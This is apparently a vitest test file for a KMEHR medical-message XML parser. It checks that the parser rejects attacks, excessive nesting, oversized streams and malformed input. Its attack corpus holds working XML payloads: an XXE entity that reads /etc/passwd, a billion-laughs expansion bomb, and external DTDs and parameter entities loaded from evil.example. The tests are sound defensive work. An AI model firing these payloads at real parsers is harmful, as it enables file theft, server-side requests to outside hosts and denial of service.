import { describe, expect, it } from 'vitest';
import { FindingError, type Finding } from '../status/finding.js';
import { batchMessage } from './generate-batch.js';
import { KMEHR_NS } from './model.js';
import { parseKmehr } from './parse-kmehr.js';
import { streamKmehr } from './stream-kmehr.js';

const OPEN = `<kmehrmessage xmlns="${KMEHR_NS}">`;
const VALID = batchMessage(1);

/** The single finding parseKmehr returns for an input it must refuse. */
function refusal(input: Buffer | string): Finding {
  const outcome = parseKmehr(input);
  if (outcome.ok) throw new Error('expected a refusal');
  expect(outcome.findings).toHaveLength(1);
  return outcome.findings[0]!;
}

/** The finding streamKmehr throws for the same input, fed in small chunks. */
async function streamRefusal(input: string, chunk = 7): Promise<Finding> {
  async function* source(): AsyncGenerator<Buffer> {
    const bytes = Buffer.from(input);
    for (let i = 0; i < bytes.length; i += chunk) yield bytes.subarray(i, i + chunk);
  }
  try {
    await streamKmehr(source(), { header() {}, folder() {} });
  } catch (err) {
    if (err instanceof FindingError) return err.finding;
    throw err;
  }
  throw new Error('expected a refusal');
}

const billionLaughs =
  '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n' +
  Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('\n') +
  `\n]>\n${OPEN}&lol9;</kmehrmessage>`;

const CORPUS: ReadonlyArray<readonly [string, string, string]> = [
  ['XXE file read', `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${OPEN}&e;</kmehrmessage>`, 'XML_EXTERNAL_ENTITY'],
  ['billion laughs', billionLaughs, 'XML_ENTITY_DECLARATION'],
  ['external parameter entity', `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>${OPEN}</kmehrmessage>`, 'XML_EXTERNAL_ENTITY'],
  ['internal parameter entity', `<!DOCTYPE x [<!ENTITY % p "<!ENTITY e 'x'>"> %p;]>${OPEN}&e;</kmehrmessage>`, 'XML_ENTITY_DECLARATION'],
  [
    'DOCTYPE after a comment',
    `<?xml version="1.0"?>\n<!-- innocent -->\n<!DOCTYPE kmehrmessage>\n${VALID.slice(VALID.indexOf('<kmehrmessage'))}`,
    'XML_DOCTYPE_FORBIDDEN',
  ],
  ['external DTD subset', `<!DOCTYPE kmehrmessage SYSTEM "http://evil.example/k.dtd">${OPEN}</kmehrmessage>`, 'XML_EXTERNAL_ENTITY'],
];

describe('XML attack corpus', () => {
  it.each(CORPUS)('%s is refused by parseKmehr and streamKmehr with its own code', async (_name, xml, code) => {
    expect(refusal(xml).code).toBe(code);
    expect(refusal(Buffer.from(xml)).code).toBe(code);
    // The stream has no prolog screen: saxes' doctype event refuses it with the same code.
    expect((await streamRefusal(xml)).code).toBe(code);
  });

  it('10 000-deep nesting is refused with XML_TOO_DEEP in well under a second', async () => {
    const deep = `${OPEN}${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</kmehrmessage>`;
    let started = performance.now();
    const f = refusal(deep);
    expect(performance.now() - started).toBeLessThan(250);
    expect(f).toMatchObject({ code: 'XML_TOO_DEEP', params: { limit: 64 }, line: 1, location: '/kmehrmessage' });
    started = performance.now();
    expect((await streamRefusal(deep, 4096)).code).toBe('XML_TOO_DEEP');
    expect(performance.now() - started).toBeLessThan(250);
    // An honest message nested deeper than a small limit is refused too, and one within it passes.
    expect(parseKmehr(VALID, { maxBytes: 1e6, maxDepth: 5 }).ok).toBe(false);
    expect(parseKmehr(VALID, { maxBytes: 1e6, maxDepth: 7 }).ok).toBe(true);
    const inItem = VALID.replace('<batch>', `${'<a>'.repeat(100)}${'</a>'.repeat(100)}<batch>`);
    expect(refusal(inItem)).toMatchObject({ code: 'XML_TOO_DEEP', location: '/kmehrmessage/folder[1]/transaction[1]/item[1]' });
  });

  it('input over maxBytes is refused by parseKmehr before parsing', () => {
    const f = refusal(Buffer.alloc(10 * 1024 * 1024 + 1, 0x20));
    expect(f).toMatchObject({ code: 'XML_TOO_LARGE', params: { limit: 10 * 1024 * 1024 } });
  });

  it('a 200 MB stream against a 10 MB limit stops reading at the limit, in < 1 s, with flat memory', async () => {
    const limit = 10 * 1024 * 1024;
    const chunk = Buffer.from(`<x>${'y'.repeat(64 * 1024 - 7)}</x>`);
    let served = 0;
    async function* stream(total: number): AsyncGenerator<Buffer> {
      served = 0;
      yield Buffer.from(`${OPEN}<header>`);
      while (served < total) {
        served += chunk.length;
        yield chunk; // the same buffer again and again: 200 MB are never allocated
      }
    }
    // Calibration: the same content just under the limit (refused at its end as truncated). Refusing the 200 MB
    // stream must cost no more than parsing what fits in the limit: the rest is never read.
    let started = performance.now();
    await streamKmehr(stream(limit - 2 * chunk.length), { header() {}, folder() {} }).catch(() => undefined);
    const underLimit = performance.now() - started;

    const heapBefore = process.memoryUsage().heapUsed;
    started = performance.now();
    const error = await streamKmehr(stream(200 * 1024 * 1024), { header() {}, folder() {} }).catch((e: unknown) => e);
    const elapsed = performance.now() - started;
    expect(error).toBeInstanceOf(FindingError);
    expect((error as FindingError).finding).toMatchObject({ code: 'XML_TOO_LARGE', params: { limit } });
    expect(served).toBeLessThanOrEqual(limit + 2 * chunk.length);
    // < 1 s on a machine that parses 10 MB in < 0.65 s (saxes does ~40 MB/s unloaded); on a starved CI core the
    // bound is the time those 10 MB take, never the 200 MB.
    expect(elapsed).toBeLessThan(Math.max(1000, 1.5 * underLimit));
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(64 * 1024 * 1024);
  });

  it.each([
    ['an unclosed tag', `${OPEN}\n<header>\n<standard>\n</kmehrmessage>`, 4],
    ['an unquoted attribute', `${OPEN}\n<header>\n<standard><cd S=CD-STANDARD>1</cd></standard></header></kmehrmessage>`, 3],
    ['a duplicate attribute', `${OPEN}\n<header S="a" S="b"/></kmehrmessage>`, 2],
    ['an undefined entity', `${OPEN}\n\n<header>&nbsp;</header></kmehrmessage>`, 3],
    ['text after the root', `${VALID}trailing`, VALID.split('\n').length],
    ['an unbound prefix', `${OPEN}\n<x:header/></kmehrmessage>`, 2],
    ['no root element', '<?xml version="1.0"?>\n<!-- nothing -->', 2],
    ['an unsupported declared encoding', `<?xml version="1.0" encoding="ISO-8859-1"?>${OPEN}</kmehrmessage>`, 1],
  ])('malformed XML (%s) is refused with XML_MALFORMED and its line', async (_name, xml, line) => {
    const f = refusal(xml);
    expect(f.code).toBe('XML_MALFORMED');
    expect(f.line).toBe(line);
    expect(f.column).toBeGreaterThan(0);
    expect(String(f.params?.detail).length).toBeGreaterThan(3);
    expect(f.location).toMatch(/^\/(kmehrmessage(\/header)?)?$/);
    expect((await streamRefusal(xml)).code).toBe('XML_MALFORMED');
  });

  it('a UTF-8 BOM is fine, as bytes and as a decoded character; so is UTF-16 with a BOM', async () => {
    const bom = Buffer.from([0xef, 0xbb, 0xbf]);
    expect(parseKmehr(Buffer.concat([bom, Buffer.from(VALID)])).ok).toBe(true);
    expect(parseKmehr(`\ufeff${VALID}`).ok).toBe(true);
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(VALID.replace('UTF-8', 'UTF-16'), 'utf16le')]);
    expect(parseKmehr(utf16).ok).toBe(true);
    let folders = 0;
    async function* source(): AsyncGenerator<Buffer> {
      const all = Buffer.concat([bom, Buffer.from(VALID)]);
      for (let i = 0; i < all.length; i += 1) yield all.subarray(i, i + 1); // splits the BOM and every é
    }
    await streamKmehr(source(), {
      header() {},
      folder() {
        folders++;
      },
    });
    expect(folders).toBe(1);
    // A BOM does not hide a DOCTYPE.
    expect(refusal(Buffer.concat([bom, Buffer.from(`<!DOCTYPE x>${OPEN}</kmehrmessage>`)])).code).toBe('XML_DOCTYPE_FORBIDDEN');
  });
});
